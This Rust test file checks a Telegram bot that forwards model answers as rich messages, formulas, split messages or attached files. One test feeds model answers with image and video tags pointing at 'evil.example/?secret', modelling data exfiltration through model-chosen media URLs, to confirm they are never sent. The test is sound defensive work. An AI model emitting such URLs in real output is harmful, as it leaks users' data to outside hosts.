//! Answers that are more than text: tables and formulas, and answers too long for messages.

use routergram::replies::{self, Language};
use routergram::sandbox::telegram::{Fault, Trouble};

use crate::world::{ANNA, GROUP, Mode, World, until};

const TABLE: &str = "Look:\n\n| a | b |\n|---|---|\n| 1 | 2 |";

fn calls(world: &World, method: &str) -> usize {
    world.telegram.calls().iter().filter(|call| call.method == method).count()
}

#[tokio::test]
async fn a_table_goes_out_as_a_rich_message() {
    let world = World::with(Mode::Webhook).await;
    world.model.answers(TABLE);
    world.anna("a table");
    let said = world.answers(ANNA, 1).await;
    assert_eq!((said.len(), said[0].rich.as_deref()), (1, Some(TABLE)));
    world.model.answers("no table");
    world.anna("none");
    world.answers(ANNA, 2).await;
    assert_eq!(world.said(ANNA)[1].rich, None);
    world.ends().await;
}

#[tokio::test]
async fn a_formula_goes_out_between_dollars_whatever_the_model_puts_around_it() {
    let world = World::with(Mode::Webhook).await;
    world.model.answers("So:\n\n\\[\nx = \\frac{1}{2}\n\\]\n\nwith \\( a_1 \\), and `\\(code\\)`.");
    world.anna("a formula");
    let said = world.answers(ANNA, 1).await;
    let rich = "So:\n\n$$\nx = \\frac{1}{2}\n$$\n\nwith $a_1$, and `\\(code\\)`.";
    assert_eq!((said.len(), said[0].rich.as_deref()), (1, Some(rich)));
    world.ends().await;
}

#[tokio::test]
async fn in_a_group_the_growing_message_becomes_rich() {
    let world = World::with(Mode::Webhook).await;
    world.model.answers(TABLE);
    let gate = world.model.hold_after(1);
    world.says(ANNA, GROUP, "/ask a table");
    let growing = world.grows(GROUP, "Look:").await;
    gate.release();
    let said = world.answers(GROUP, 1).await;
    assert_eq!((said.len(), said[0].message_id, said[0].rich.as_deref()), (1, growing.message_id, Some(TABLE)));
    world.ends().await;
}

#[tokio::test]
async fn a_server_without_rich_messages_gets_a_readable_table_and_is_asked_once() {
    let world = World::with(Mode::Polling).await;
    world.telegram.set_rich(false);
    world.model.answers(TABLE);
    for count in 1..=2 {
        world.anna("a table");
        world.answers(ANNA, count).await;
    }
    world.drains().await;
    let said = world.said(ANNA);
    assert_eq!(said.len(), 2);
    assert!(said.iter().all(|message| message.rich.is_none() && message.entities[0]["type"] == "pre"), "{said:?}");
    assert_eq!(calls(&world, "sendRichMessage"), 1);
    world.ends().await;
}

#[tokio::test]
async fn the_owner_may_want_no_rich_messages_or_nothing_else() {
    let world = World::with_settings(Mode::Webhook, &[("REPLY_FORMAT", "entities")]).await;
    world.model.answers(TABLE);
    world.anna("a table");
    assert_eq!(world.answers(ANNA, 1).await[0].rich, None);
    world.ends().await;
    let world = World::with_settings(Mode::Webhook, &[("REPLY_FORMAT", "rich")]).await;
    world.model.answers("**bold**");
    world.anna("no table");
    assert_eq!(world.answers(ANNA, 1).await[0].rich.as_deref(), Some("**bold**"));
    world.ends().await;
}

#[tokio::test]
async fn a_picture_that_the_model_chose_is_never_fetched() {
    let world = World::with_settings(Mode::Webhook, &[("REPLY_FORMAT", "rich")]).await;
    for answer in [
        format!("{TABLE}\n\n![x](https://evil.example/?secret)"),
        format!("{TABLE}\n\n<img src=\"https://evil.example/?secret\">"),
        "a <video src=\"https://evil.example/\"></video>".to_owned(),
    ] {
        world.model.answers(answer);
        world.anna("a picture");
        world.drains().await;
    }
    assert_eq!((world.said(ANNA).len(), calls(&world, "sendRichMessage")), (3, 0));
    world.ends().await;
}

#[tokio::test]
async fn a_very_long_answer_shows_its_beginning_and_comes_whole_as_a_file() {
    let world = World::with_settings(Mode::Webhook, &[("MAX_TOKENS", "30000")]).await;
    let text = "All work and **no play** makes Jack a dull boy. ".repeat(900);
    world.model.answers(text.trim());
    world.anna("write");
    world.answers(ANNA, 6).await;
    world.drains().await;
    let said = world.said(ANNA);
    assert_eq!(said.len(), 6, "{}", said.len());
    assert_eq!(said[4].text, replies::continued_in_file(Language::En));
    let file = said[5].document.as_ref().expect("the last is a file");
    assert_eq!(file.name, "answer.md");
    let content = world.telegram.file(&file.file_id).expect("its content is kept");
    assert_eq!(String::from_utf8(content.bytes.to_vec()).unwrap().trim(), text.trim());
    assert!(text.replace("**", "").starts_with(&said[0].text));
    assert_eq!(world.model.request_count(), 1);
    world.ends().await;
}

#[tokio::test]
async fn an_edited_question_replaces_the_file_too() {
    let world = World::with_settings(Mode::Webhook, &[("MAX_TOKENS", "30000")]).await;
    world.model.answers("All work and no play makes Jack a dull boy. ".repeat(900).trim());
    let question = world.anna("write");
    world.answers(ANNA, 6).await;
    world.drains().await;
    world.model.answers("short");
    world.edits(ANNA, ANNA, question, "write less");
    until("only the new answer is left", async || world.said(ANNA).len() == 1 && world.last_said(ANNA) == "short")
        .await;
    world.ends().await;
}

#[tokio::test]
async fn a_very_long_answer_comes_whole_where_files_are_not_allowed() {
    let mut world = World::with_settings(Mode::Webhook, &[("MAX_TOKENS", "30000")]).await;
    world.expects_in_log(&["Telegram refused a file"]);
    let text = "All work and no play makes Jack a dull boy. ".repeat(900);
    world.model.answers(text.trim());
    let description = "Bad Request: not enough rights to send documents to the chat".to_owned();
    world.telegram.fail(Fault::new("sendDocument", 100, Trouble::Refused { code: 400, description }));
    world.says(ANNA, GROUP, "/ask write");
    world.drains().await;
    let about_a_file = replies::continued_in_file(Language::En);
    let said = world.said(GROUP).into_iter().map(|message| message.text).filter(|text| *text != about_a_file);
    let said: Vec<String> = said.collect();
    let words = |text: &str| text.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
    assert!(words(&said.join(" ")) == words(&text), "{} messages", said.len());
    world.ends().await;
}
